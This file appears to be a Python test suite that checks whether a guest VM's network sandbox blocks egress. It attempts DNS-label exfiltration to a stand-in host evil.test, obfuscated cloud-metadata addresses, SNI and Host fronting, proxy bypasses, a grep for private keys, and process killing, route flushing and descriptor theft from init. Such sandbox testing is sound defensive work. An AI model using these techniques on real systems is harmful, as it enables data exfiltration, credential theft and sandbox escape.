# What the guest's root tries. For each attempt prints a line: `held` if it came to what is expected, what was tried, and
# what it came to. Usage: attacks.py PART...

import base64, ctypes, fcntl, json, os, socket, ssl, struct, subprocess, sys, threading, urllib.request

# Nothing hangs: what takes so long, in seconds, has failed.
PATIENCE = 20
TOKEN = os.environ.get("TOKEN", "none")
REFUSED = "ConnectionRefusedError"
RESET = "ConnectionResetError"
UNKNOWN = "gaierror"
FORBIDDEN = "HTTP/1.1 403 Forbidden"
MISDIRECTED = "HTTP/1.1 421 Misdirected Request"


def attempt(what, expected, tried):
    try:
        found = tried()
    except Exception as error:
        found = type(error).__name__
    held(what, found in expected if isinstance(expected, list) else found == expected, found)


def held(what, right, found=""):
    print("held:" if right else "NOT HELD:", f"{what}: {found}", flush=True)


def connect(host, port):
    return socket.create_connection((host, port), PATIENCE)


def rest(stream):
    got = b""
    try:
        while piece := stream.recv(65536):
            got += piece
    except ConnectionResetError:
        got += b"(reset)"
    return got


def exchange(host, port, text):
    with connect(host, port) as stream:
        stream.sendall(text)
        return rest(stream).decode("latin1")


# Names

def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def told(answer):
    code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    return f"{count} answers" if code == 0 else f"code {code}"


def udp(server, name, kind=1, port=53, patience=PATIENCE):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(patience)
        s.connect((server, port))
        s.send(query(name, kind))
        return told(s.recv(4096))


def tcp(server, name):
    with connect(server, 53) as s:
        text = query(name, 1)
        s.sendall(struct.pack(">H", len(text)) + text)
        return told(rest(s)[2:])


STOLEN = "".join(f"{byte:02x}" for byte in b"what the agent knows and should not say")


def names():
    long = ".".join([STOLEN[:60], STOLEN[60:] or "x", "y" * 63])
    below = f"{STOLEN[:60]}.evil.test"
    attempt("a name that is not allowed", UNKNOWN, lambda: connect("evil.test", 443))
    attempt("labels", UNKNOWN, lambda: connect(f"{long}.evil.test", 443))
    attempt("labels below a name that is allowed", UNKNOWN, lambda: connect(f"{STOLEN[:60]}.web.test", 80))
    for server in ["8.8.8.8", "2001:4860:4860::8888", "169.254.169.254", "10.1.2.3"]:
        attempt(f"labels, asked of {server}", "code 3", lambda: udp(server, below))
    for kind in [2, 5, 6, 10, 12, 13, 15, 16, 33, 35, 64, 65, 99, 256, 65280]:
        attempt(f"type {kind}", ["code 3", "code 4"], lambda: udp("127.0.0.1", below, kind))
        attempt(f"type {kind} of a name that is allowed", ["0 answers", "code 4"], lambda: udp("127.0.0.1", "web.test", kind))
    attempt("any type", "code 3", lambda: udp("127.0.0.1", below, 255))
    attempt("by TCP", REFUSED, lambda: tcp("127.0.0.1", below))
    attempt("by TCP elsewhere", REFUSED, lambda: tcp("8.8.8.8", below))
    attempt("by TLS elsewhere", REFUSED, lambda: connect("8.8.8.8", 853))
    attempt("by HTTPS elsewhere", REFUSED, lambda: connect("1.1.1.1", 443))
    # Nobody may answer this with a refusal.
    attempt("by multicast", "TimeoutError", lambda: udp("224.0.0.251", "evil.local", port=5353, patience=1))
    attempt("QUIC", REFUSED, lambda: udp("192.0.2.80", below, port=443))
    attempt("a name that is allowed", "1 answers", lambda: udp("8.8.8.8", "web.test"))


# Addresses

LITERAL = ["0.0.0.0", "10.1.2.3", "169.254.169.254", "192.0.2.80", "100.64.0.1", "255.255.255.255", "fd00:ec2::254",
    "::ffff:127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:7f00:1::", "fe80::1%snowglobe0", "8.8.8.8"]
ODD = ["2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "0xa9.0xfe.0xa9.0xfe"]


def proxy(host, port=80):
    return exchange("127.0.0.1", 3128, f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()).split("\r\n")[0]


def fetch(url):
    at = url.split("/")[2]
    return exchange("127.0.0.1", 3128, f"GET {url} HTTP/1.1\r\nHost: {at}\r\nConnection: close\r\n\r\n".encode()).split("\r\n")[0]


def socks(kind, address, port=80):
    with connect("127.0.0.1", 1080) as s:
        s.sendall(b"\5\1\0")
        if s.recv(2) != b"\5\0":
            return "no greeting"
        s.sendall(b"\5\1\0" + bytes([kind]) + address + struct.pack(">H", port))
        answer = rest(s)
        return f"code {answer[1]}" if len(answer) > 1 else f"{answer}"


def named(name):
    return bytes([len(name)]) + name.encode()


def addresses():
    # The kernel itself refuses broadcasts.
    for address in LITERAL:
        attempt(address, [REFUSED, "OSError"] if address == "255.255.255.255" else REFUSED, lambda: connect(address, 80).recv(9))
    for address in ODD:
        attempt(address, REFUSED, lambda: connect(address, 80).recv(9))
        attempt(f"{address} through the proxy", FORBIDDEN, lambda: proxy(address))
        attempt(f"{address} through SOCKS", "code 2", lambda: socks(3, named(address)))
    for address in ["169.254.169.254", "127.0.0.1", "[::ffff:a9fe:a9fe]", "[::1]", "localhost", "evil.test", "evil.test."]:
        attempt(f"CONNECT {address}", FORBIDDEN, lambda: proxy(address))
        attempt(f"GET http://{address}/", FORBIDDEN, lambda: fetch(f"http://{address}/"))
    attempt("SOCKS 169.254.169.254", "code 2", lambda: socks(1, socket.inet_aton("169.254.169.254")))
    attempt("SOCKS ::ffff:127.0.0.1", "code 2", lambda: socks(4, socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1")))
    attempt("SOCKS evil.test", "code 2", lambda: socks(3, named("evil.test"), 443))
    attempt("SOCKS with a zero in the name", "code 4", lambda: socks(3, named("evil.test\0.web.test"), 443))
    for name in ["private.test", "metadata.test", "loop.test", "own.test"]:
        attempt(name, REFUSED, lambda: connect(name, 443).recv(9))
        attempt(f"{name} through the proxy", FORBIDDEN, lambda: proxy(name, 443))
    for _ in range(8):
        attempt("rebind.test", [REFUSED, "OSError"], lambda: connect("rebind.test", 443).recv(9))


# What a connection to an allowed name asks the server for

def hello(name):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    wrapped = tls.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        wrapped.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def encrypted(name):
    """The ClientHello with an encrypted one in it."""
    message = bytearray(hello(name)[5:])
    at = 4 + 2 + 32
    at += 1 + message[at]
    at += 2 + struct.unpack(">H", message[at:at + 2])[0]
    at += 1 + message[at]
    body = b"\0\0\1\0\1\7\0\x20" + b"\5" * 32 + b"\0\x64" + b"\6" * 100
    message += struct.pack(">HH", 0xfe0d, len(body)) + body
    message[at:at + 2] = struct.pack(">H", len(message) - at - 2)
    message[1:4] = struct.pack(">I", len(message) - 4)[1:]
    return b"\x16\3\1" + struct.pack(">H", len(message)) + bytes(message)


def in_pieces(record, size):
    body = record[5:]
    pieces = [body[at:at + size] for at in range(0, len(body), size)]
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(piece)) + piece for piece in pieces)


def first(host, record):
    """The type of the server's first record: 22 is a handshake."""
    with connect(host, 443) as s:
        s.sendall(record)
        got = s.recv(5)
        return f"record {got[0]}" if got else "the end"


def tunneled(name, asked):
    with connect("127.0.0.1", 3128) as s:
        s.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode())
        head = s.recv(4096).split(b"\r\n")[0].decode()
        s.sendall(hello(asked))
        got = s.recv(5)
        return head + (f", record {got[0]}" if got else ", the end")


def status(text):
    return text.split("\r\n")[0] or "the end"


def fronting():
    for what, expected, record in [
        ("SNI", "record 22", hello("tls.test")),
        ("SNI in pieces", "record 22", in_pieces(hello("tls.test"), 7)),
        ("SNI of another host", RESET, hello("evil.test")),
        ("SNI of another host in pieces", RESET, in_pieces(hello("evil.test"), 7)),
        ("no SNI", RESET, hello(None)),
        ("ECH", RESET, encrypted("tls.test")),
        ("ECH in pieces", RESET, in_pieces(encrypted("tls.test"), 9)),
    ]:
        attempt(what, expected, lambda: first("tls.test", record))
    attempt("SNI of another host through the proxy", RESET, lambda: tunneled("tls.test", "evil.test"))
    attempt("no TLS on its port", "(reset)", lambda: exchange("tls.test", 443, b"SSH-2.0-x\r\n"))
    right = "GET /right HTTP/1.1\r\nHost: web.test\r\n"
    wrong = "GET /wrong HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"
    for what, expected, text in [
        ("Host", "HTTP/1.1 200 OK", right + "Connection: close\r\n\r\n"),
        ("Host of another host", MISDIRECTED, wrong),
        ("no Host", MISDIRECTED.replace("1.1", "1.0"), "GET /wrong HTTP/1.0\r\n\r\n"),
        ("two Hosts", MISDIRECTED, "GET /wrong HTTP/1.1\r\nHost: web.test\r\nHost: evil.test\r\n\r\n"),
        ("a whole address", MISDIRECTED, "GET http://evil.test/wrong HTTP/1.1\r\nHost: web.test\r\n\r\n"),
        ("CONNECT", "HTTP/1.1 405 Method Not Allowed", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
        ("line breaks before it", MISDIRECTED, "\r\n\r\n" + wrong),
        ("HTTP/2", "the end", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ]:
        attempt(what, expected, lambda: status(exchange("web.test", 80, text.encode())))
    both = exchange("web.test", 80, (right + "\r\n" + wrong).encode())
    found = [line.split(" ")[0] for line in both.split("HTTP/1.1 ")[1:]]
    held("Host of another host later", found == ["200", "421"], found)
    attempt("a redirect", "URLError", lambda: urllib.request.urlopen("http://web.test/redirect", timeout=PATIENCE).status)


# Secrets

def ask(host, path, headers=(), data=None, version="--http1.1", more=()):
    words = ["curl", "-sS", "-i", version, "--max-time", str(PATIENCE), f"https://{host}{path}", *more]
    for header in headers:
        words += ["-H", header]
    if data:
        words += ["--data", data]
    done = subprocess.run(words, capture_output=True, text=True)
    # Curl's own words are of no interest.
    return done.stdout if done.returncode == 0 else f"curl ended with {done.returncode}"


def secrets():
    bearer = f"Authorization: Bearer {TOKEN}"
    plain = f"me:{TOKEN}".encode()
    basic = "Authorization: Basic " + base64.b64encode(plain).decode()
    held("the placeholder", TOKEN.startswith("snowglobe-secret-TOKEN-"))
    for version in ["--http1.1", "--http2"]:
        for path in ["/echo", "/pieces", "/redirect"]:
            found = ask("api.test", path, [bearer], version=version)
            held(f"{path}, {version}", found.count(f"Bearer {TOKEN}") >= 1 and found.startswith("HTTP/"), found)
        found = ask("api.test", "/basic", [basic], version=version)
        held(f"basic, {version}", found.startswith("HTTP/") and "Basic" in found, found)
        # It stays what it is everywhere else.
        found = ask("api.test", f"/other?{TOKEN}", [f"X-Other: {TOKEN}", f"Cookie: {TOKEN}"], TOKEN, version)
        held(f"elsewhere in the request, {version}", f"/other?{TOKEN} {TOKEN}" in found, found)
        found = ask("tls.test", "/elsewhere", [bearer], version=version, more=["-k"])
        held(f"to another host, {version}", f"Bearer {TOKEN}" in found, found)
        found = ask("api.test", "/wrong", [bearer, "Host: evil.test"], version=version)
        held(f"with another Host, {version}", " 421" in status(found), found)
        found = ask("evil.test", "/wrong", [bearer], version=version, more=["-k", "--connect-to", "evil.test:443:api.test:443"])
        held(f"with another SNI, {version}", found == "curl ended with 35", found)
    request = f"GET /wrong HTTP/1.1\r\nHost: api.test:443\r\n{bearer}\r\nConnection: close\r\n\r\n"
    attempt("without TLS", "HTTP/1.1 502 Bad Gateway", lambda: status(exchange("api.test", 443, request.encode())))
    words = "grep -rlI 'PRIVATE KEY' /run /etc /var /root /tmp | grep -v '^/etc/ssh/'"
    attempt("the authority's key", "", lambda: subprocess.run(words, shell=True, capture_output=True, text=True).stdout)


# Too much of everything

def flood():
    open_ones, refused, lock = [], [], threading.Lock()
    def many(port):
        for _ in range(60):
            try:
                stream = connect("echo.test", port)
                with lock:
                    open_ones.append(stream)
            except OSError as error:
                with lock:
                    refused.append(type(error).__name__)
    threads = [threading.Thread(target=many, args=(9 if at % 2 else 7,)) for at in range(10)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    held("so many are open", 256 <= len(open_ones) <= 512, len(open_ones))
    held("the others were refused", set(refused) <= {REFUSED, UNKNOWN} and len(open_ones) + len(refused) == 600, set(refused))


# The guest's root controls the guest's half of the network

def wreck():
    own = {os.getpid(), os.getppid(), 1}
    for pid in [int(entry) for entry in os.listdir("/proc") if entry.isdigit()]:
        if pid not in own:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    fetched = lambda: status(exchange("web.test", 80, b"GET /right HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n"))
    run = lambda words: subprocess.run(words.split(), capture_output=True, text=True).returncode
    attempt("after killing everything", "HTTP/1.1 200 OK", fetched)
    os.unlink("/etc/resolv.conf")
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 10.1.2.3\nnameserver 8.8.8.8\n")
    attempt("another resolver, a name that is allowed", "HTTP/1.1 200 OK", fetched)
    attempt("another resolver, another name", UNKNOWN, lambda: connect("evil.test", 443))
    attempt("an address of one's own", 0, lambda: run("ip address add 198.51.100.7/24 dev snowglobe0"))
    attempt("from that address", REFUSED, lambda: socket.create_connection(("169.254.169.254", 80), PATIENCE, ("198.51.100.7", 0)))
    attempt("the routes are gone", 0, lambda: run("ip route flush table main"))
    attempt("without routes", UNKNOWN, lambda: connect("web.test", 80))
    attempt("the device is gone", 0, lambda: run("ip link delete snowglobe0"))
    attempt("without the device", UNKNOWN, lambda: connect("web.test", 80))


def stolen():
    """The descriptor of init's port to the host: a port of virtio-serial, or a connection of vsock."""
    call = ctypes.CDLL(None, use_errno=True).syscall
    take = lambda entry: call(438, os.pidfd_open(1), int(entry), 0)
    ports = port_names()
    for entry in os.listdir("/proc/1/fd"):
        target = os.readlink(f"/proc/1/fd/{entry}")
        if os.path.basename(target) in ports:
            return take(entry)
        if not ports and target.startswith("socket:"):
            found = socket.socket(fileno=take(entry))
            if found.family == socket.AF_VSOCK and found.getsockname()[1] == 1025 and connected(found):
                return found.detach()
    raise FileNotFoundError("no port")


def connected(found):
    try:
        return found.getpeername()
    except OSError:
        return None


def port_names():
    names = []
    for name in os.listdir("/sys/class/virtio-ports"):
        with open(f"/sys/class/virtio-ports/{name}/name") as file:
            if file.read().strip() == "snowglobe.streams":
                names.append(name)
    return names


def frame(number, kind, body):
    return struct.pack(">IBBH", number, kind, 0, len(body)) + body


def lies():
    port = stolen()
    fcntl.fcntl(port, fcntl.F_SETFL, 0)
    number = 100_001
    for host, at in [("evil.test", 443), ("169.254.169.254", 80), ("127.0.0.1", 80), ("2852039166", 80), ("0xA9FEA9FE", 80),
                     ("::ffff:127.0.0.1", 80), ("[::1]", 80), ("localhost", 80), ("evil.test.", 443), ("EVIL.test", 443),
                     ("web.test\0evil.test", 80), ("loop.test", 443), ("rebind.test", 443), ("", 80), ("a" * 7000, 80)]:
        ask = json.dumps({"ask": "connect", "host": host, "port": at, "by": None}).encode()
        os.write(port, frame(number, 1, ask))
        number += 2
        os.write(port, frame(number, 1, json.dumps({"ask": "resolve", "name": STOLEN[:50] + "." + host, "by": None}).encode()))
        number += 2
    for nonsense in [b"", b"{}", b"null", b"[" * 8000, b'{"ask":"reach","port":80}', b"\xff" * 100]:
        os.write(port, frame(number, 1, nonsense))
        number += 2
    held("forbidden requests were sent", True)


def garbage():
    port = stolen()
    fcntl.fcntl(port, fcntl.F_SETFL, 0)
    os.write(port, os.urandom(4096))
    held("garbage was sent", True)


PARTS = {part.__name__: part for part in [names, addresses, fronting, secrets, flood, wreck, lies, garbage]}
for part in sys.argv[1:]:
    PARTS[part]()
